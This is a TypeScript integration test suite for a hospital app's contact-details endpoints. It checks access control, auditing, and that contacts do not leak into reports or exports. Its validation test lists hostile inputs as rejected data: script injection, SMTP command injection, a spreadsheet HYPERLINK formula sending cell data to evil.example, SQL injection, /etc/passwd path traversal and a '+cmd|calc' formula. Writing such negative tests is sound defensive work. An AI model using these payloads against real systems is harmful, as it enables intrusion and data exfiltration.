import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { Flow } from './support/flow';
import { Hospital, seedHospital } from './support/hospital';
import { PASSWORD, TestApp, startApp } from './support/test-app';

const onPostgres = /^postgres/.test(process.env.DATABASE_URL ?? '');

/** Collects a binary body (xlsx) as a Buffer. */
const binary = (response: Response, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => done(null, Buffer.concat(chunks)));
};

/** Every cell's text in every sheet of a workbook. */
async function workbookText(body: Buffer): Promise<string> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(body as never);
  const cells: string[] = [];
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.text)))));
  return cells.join('\n');
}

const CONTACT_KEYS = ['email', 'mobile', 'wecomUserId', 'dingtalkUserId'];

/**
 * A person's contacts (e-mail, mobile, WeCom and DingTalk ids): set by the person or an
 * administrator, validated, audited by field name, and read by the person and administrators only:
 * never by another department, in the people lookup, a list of accounts, a report, a ledger or an export.
 */
describe(`contacts (${onPostgres ? 'PostgreSQL' : 'SQLite'})`, () => {
  let t: TestApp;
  let h: Hospital;
  let flow: Flow;
  const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });
  const patchOwn = (token: string, body: object) => t.http.patch('/me/contact').set(bearer(token)).send(body);
  const patchUser = (token: string, id: string, body: object) => t.http.patch(`/users/${id}`).set(bearer(token)).send(body);
  const userRow = async (id: string) => {
    const [row] = await t.dataSource.query(`SELECT "email", "mobile", "wecomUserId", "dingtalkUserId" FROM "users" WHERE "id" = '${id}'`);
    return row as Record<string, string | null>;
  };
  const contactEntries = async (id: string) =>
    (await t.http.get(`/audit?entityId=${id}&limit=500`).set(bearer(h.users.admin.token)).expect(200)).body.items.filter((entry: { event: string }) => entry.event === 'CONTACT_CHANGED');

  /** The lead's contacts, as set below: each must show up only where the rule allows. */
  const LEAD = { email: 'lead.rounds@hospital.example', mobile: '13912345678', wecomUserId: 'wecom-lead-7731', dingtalkUserId: 'ding.lead.7731' };
  const STAFF = { email: 'ward.staff@hospital.example', mobile: '15887654321', wecomUserId: 'wecom-staff-4410', dingtalkUserId: 'ding_staff@4410' };
  const everyValue = [...Object.values(LEAD), ...Object.values(STAFF)];
  const expectNoContact = (text: string, where: string) => {
    for (const value of everyValue) expect({ where, leaks: text.includes(value) ? value : null }).toEqual({ where, leaks: null });
  };

  beforeAll(async () => {
    t = await startApp();
    h = await seedHospital(t);
    flow = new Flow(t, h);
  });

  afterAll(() => t.close());

  it('a person sets their own: +86 dropped from a mobile, what is left out kept, null or "" clearing; audited by field name only', async () => {
    const set = await patchOwn(h.users.lead.token, { ...LEAD, mobile: `+86 ${LEAD.mobile}` }).expect(200);
    expect(set.body).toEqual(LEAD);
    expect(await userRow(h.users.lead.id)).toEqual(LEAD);
    const me = (await t.http.get('/me').set(bearer(h.users.lead.token)).expect(200)).body;
    expect(me).toMatchObject(LEAD);

    // Left out: kept; null and blank text: cleared.
    expect((await patchOwn(h.users.lead.token, { email: null, mobile: '  ' }).expect(200)).body).toEqual({ ...LEAD, email: null, mobile: null });
    expect((await patchOwn(h.users.lead.token, { email: LEAD.email, mobile: `+86${LEAD.mobile}` }).expect(200)).body).toEqual(LEAD);
    // The same values again change nothing and are not audited.
    await patchOwn(h.users.lead.token, { wecomUserId: LEAD.wecomUserId }).expect(200);

    const entries = await contactEntries(h.users.lead.id);
    expect(entries.map((entry: { payload: { fields: string[] }; actorId: string }) => [entry.actorId, entry.payload.fields])).toEqual([
      [h.users.lead.id, ['email', 'mobile']],
      [h.users.lead.id, ['email', 'mobile']],
      [h.users.lead.id, CONTACT_KEYS],
    ].reverse());
    // No value of a contact is in the audit log, whoever reads it.
    const [log] = await t.dataSource.query(`SELECT COUNT(*) AS n FROM "audit_entries" WHERE "payload" LIKE '%hospital.example%' OR "payload" LIKE '%7731%' OR "payload" LIKE '%13912345678%'`);
    expect(Number(log.n)).toBe(0);
  });

  it('an administrator sets anyone’s and reads them on accounts; the discipline office neither sets nor reads them', async () => {
    const updated = await patchUser(h.users.admin.token, h.users.cardiologyStaff.id, STAFF).expect(200);
    expect(updated.body).toMatchObject({ id: h.users.cardiologyStaff.id, ...STAFF });
    expect(await userRow(h.users.cardiologyStaff.id)).toEqual(STAFF);
    expect((await contactEntries(h.users.cardiologyStaff.id)).map((entry: { actorRole: string; payload: { fields: string[] } }) => [entry.actorRole, entry.payload.fields])).toEqual([['admin', CONTACT_KEYS]]);

    const asAdmin = (await t.http.get('/users').query({ limit: 500 }).set(bearer(h.users.admin.token)).expect(200)).body.items as Record<string, unknown>[];
    expect(asAdmin.find((user) => user.id === h.users.lead.id)).toMatchObject(LEAD);
    expect(asAdmin.find((user) => user.id === h.users.inspector.id)).toMatchObject({ email: null, mobile: null, wecomUserId: null, dingtalkUserId: null });

    // The discipline office manages integrity authority on accounts, not their contacts.
    const before = await userRow(h.users.cardiologyStaff.id);
    await patchUser(h.users.discipline.token, h.users.cardiologyStaff.id, { email: 'other@hospital.example' }).expect(403);
    // Nor can it learn them by guessing: the right value and a clearing are refused alike.
    await patchUser(h.users.discipline.token, h.users.cardiologyStaff.id, { email: STAFF.email }).expect(403);
    await patchUser(h.users.discipline.token, h.users.cardiologyStaff.id, { mobile: null }).expect(403);
    expect(await userRow(h.users.cardiologyStaff.id)).toEqual(before);
    const asDiscipline = await t.http.get('/users').query({ limit: 500 }).set(bearer(h.users.discipline.token)).expect(200);
    // Only its own account's (the rule's "the person themself").
    const others = asDiscipline.body.items.filter((user: { id: string }) => user.id !== h.users.discipline.id);
    expect(others.length).toBeGreaterThan(5);
    for (const user of others) for (const key of CONTACT_KEYS) expect(user).not.toHaveProperty(key);
    expect(asDiscipline.body.items.find((user: { id: string }) => user.id === h.users.discipline.id)).toMatchObject({ email: null });
    const answered = (await patchUser(h.users.discipline.token, h.users.cardiologyStaff.id, {}).expect(200)).body;
    expect(answered.id).toBe(h.users.cardiologyStaff.id);
    for (const key of CONTACT_KEYS) expect(answered).not.toHaveProperty(key);
    expectNoContact(asDiscipline.text, 'GET /users as the discipline office');
  });

  it('refuses malformed contacts with 400 naming the field, writing nothing', async () => {
    const before = await userRow(h.users.lead.id);
    const refused: [string, unknown][] = [
      ['email', 'not-an-address'],
      ['email', `${'a'.repeat(250)}@hospital.example`],
      ['email', '<script>alert(1)</script>@hospital.example'],
      // Quoted local parts a mail server reads as more than one mailbox, or as its own commands.
      ['email', '"x,evil@attacker.example"@hospital.example'],
      ['email', '"a\rRCPT TO:<x@y.example>"@hospital.example'],
      ['email', '张三@hospital.example'],
      // A lone surrogate: validator.js's isEmail throws on it rather than answer.
      ['email', '\udfff'],
      ['email', 42],
      ['mobile', '12812345678'],
      ['mobile', '1391234567'],
      ['mobile', '139123456789'],
      ['mobile', '+85213912345678'],
      ['mobile', '139-1234-5678'],
      ['wecomUserId', 'x'.repeat(65)],
      ['wecomUserId', '<img src=x onerror=alert(1)>'],
      ['wecomUserId', '=HYPERLINK("http://evil.example/?d="&A1)'],
      ['wecomUserId', "lead' OR '1'='1"],
      ['dingtalkUserId', 'ding lead'],
      ['dingtalkUserId', '../../etc/passwd'],
      ['dingtalkUserId', '+cmd|calc'],
      ['dingtalkUserId', '李四'],
      ['dingtalkUserId', ['ding']],
    ];
    for (const [field, value] of refused) {
      const own = await patchOwn(h.users.lead.token, { [field]: value });
      expect({ field, value, status: own.status }).toEqual({ field, value, status: 400 });
      expect(own.body.details.map((problem: { field: string }) => problem.field)).toEqual(expect.arrayContaining([field]));
      const admin = await patchUser(h.users.admin.token, h.users.lead.id, { [field]: value, displayName: 'renamed' });
      expect({ field, value, status: admin.status }).toEqual({ field, value, status: 400 });
    }
    await patchOwn(h.users.lead.token, { phone: '13912345678' }).expect(400);
    expect(await userRow(h.users.lead.id)).toEqual(before);
    expect((await t.http.get('/me').set(bearer(h.users.lead.token)).expect(200)).body.displayName).toBe('lead');
  });

  it('a tablet signed in as the person neither reads nor changes them', async () => {
    await patchUser(h.users.admin.token, h.users.inspector.id, { wecomUserId: 'wecom-inspector-1' }).expect(200);
    const tablet = (await t.http.post('/devices').set(bearer(h.users.admin.token)).send({ name: 'Ward tablet', userId: h.users.inspector.id }).expect(201)).body.token as string;
    const me = (await t.http.get('/me').set(bearer(tablet)).expect(200)).body;
    for (const key of CONTACT_KEYS) expect(me).not.toHaveProperty(key);
    await patchOwn(tablet, { wecomUserId: 'wecom-tablet' }).expect(403);
    expect((await userRow(h.users.inspector.id)).wecomUserId).toBe('wecom-inspector-1');
    // The person, signed in, does read them, at login too.
    const login = (await t.http.post('/auth/login').send({ username: 'inspector', password: PASSWORD }).expect(200)).body;
    expect(login.user).toMatchObject({ wecomUserId: 'wecom-inspector-1', email: null });
  });

  it('are in no people lookup, report, ledger, export, case file or trail, whoever reads them', async () => {
    const { roundId, findingId } = await flow.assignedFinding('administrative');
    await flow.send('cardiologyStaff', findingId, { type: 'ACKNOWLEDGE' });

    const lookup = await t.http.get('/people').query({ limit: 500 }).set(bearer(h.users.adminVerifier.token)).expect(200);
    const lead = lookup.body.items.find((person: { id: string }) => person.id === h.users.lead.id);
    expect(Object.keys(lead).sort()).toEqual(['department', 'displayName', 'id', 'roles']);
    expectNoContact(lookup.text, 'GET /people');

    const month = new Date().toISOString().slice(0, 7);
    const reads: [keyof Hospital['users'], string][] = [
      ['admin', '/people?limit=500'],
      ['lead', '/reports/ledger?limit=500'],
      ['admin', '/reports/ledger?limit=500'],
      ['discipline', '/reports/ledger?format=csv'],
      ['admin', '/reports/ledger?format=csv'],
      ['cardiologyStaff', '/reports/ledger?format=csv'],
      ['admin', `/reports/monthly?month=${month}`],
      ['admin', `/reports/notice?month=${month}&format=json`],
      ['admin', `/reports/notice?month=${month}&format=html`],
      ['admin', `/findings/${findingId}`],
      ['admin', `/findings/${findingId}/audit`],
      ['discipline', `/findings/${findingId}/case-file?format=html`],
      ['admin', `/findings/${findingId}/case-file`],
      ['admin', `/rounds/${roundId}`],
      ['admin', `/rounds/${roundId}/audit`],
      ['discipline', '/audit?limit=500'],
      ['admin', '/audit?limit=500'],
      ['cardiologyStaff', '/me/notifications'],
      ['surgeryStaff', '/departments?limit=500'],
      ['admin', '/dashboard'],
    ];
    for (const [who, path] of reads) expectNoContact((await flow.as(who).get(path).expect(200)).text, `${who} GET ${path}`);

    const workbooks: [keyof Hospital['users'], string][] = [
      ['admin', '/reports/ledger?format=xlsx'],
      ['discipline', '/reports/ledger?format=xlsx'],
      ['admin', `/reports/monthly?month=${month}&format=xlsx`],
    ];
    for (const [who, path] of workbooks) {
      const response = await flow.as(who).get(path).buffer(true).parse(binary).expect(200);
      expectNoContact(await workbookText(response.body as Buffer), `${who} GET ${path}`);
    }
  });
});
